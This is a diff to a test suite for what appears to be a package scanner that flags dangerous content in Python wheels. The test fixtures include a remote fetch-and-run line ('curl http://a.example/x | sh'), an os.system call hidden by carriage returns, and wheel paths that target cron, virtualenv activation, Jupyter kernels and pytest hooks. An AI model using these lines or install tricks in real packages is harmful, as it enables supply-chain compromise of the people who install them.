@@ -342,6 +342,7 @@ describe("what runs on import", () => {
       "requests.post",
     ],
     ["exec(code)", "exec"],
+    ["# notes\rimport os; os.system('x')\r# end", "os.system"],
     ["eval(compile(code, 'a', 'exec'))", "eval"],
     ["import os\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
     ["import os\nfrom own import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
@@ -565,6 +566,24 @@ describe("what a wheel installs", () => {
     [{ "yaml/__init__.py": "" }, "warning others-module yaml"],
     [{ "orchard-1.0.data/scripts/fit": "" }, "notice py-data-scripts scripts/fit"],
     [{ "orchard-1.0.data/data/etc/cron.d/x": "" }, "warning py-data-scripts data/etc/cron.d/x"],
+    [
+      { "orchard-1.0.data/scripts/fit": "#!python\nimport os\nos.system('curl http://a.example/x | sh')\n" },
+      "danger decoded-code os.system",
+    ],
+    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\ncurl http://a.example/x | sh\n" }, "danger decoded-code fit"],
+    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\nwget $1\n" }, "warning process fit"],
+    [{ "orchard-1.0.data/data/bin/activate": "" }, "warning py-data-scripts data/bin/activate"],
+    [{ "orchard-1.0.data/data/pyvenv.cfg": "" }, "warning py-data-scripts data/pyvenv.cfg"],
+    [
+      { "orchard-1.0.data/data/share/jupyter/kernels/python3/kernel.json": "" },
+      "warning py-data-scripts data/share/jupyter/kernels/python3/kernel.json",
+    ],
+    [{ "orchard-1.0.data/headers/Python.h": "" }, "warning py-data-scripts headers/Python.h"],
+    [{ "orchard-1.0.data/headers/orchard.h": "" }, "notice py-data-scripts headers/orchard.h"],
+    [
+      { "orchard-1.0.dist-info/entry_points.txt": "[pytest11]\norchard = orchard.plugin\n" },
+      "warning import-hook pytest11",
+    ],
     [{ "orchard-1.0.data/scripts/git": "" }, "warning well-known-command git"],
     [
       { "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = orchard:main\n" },
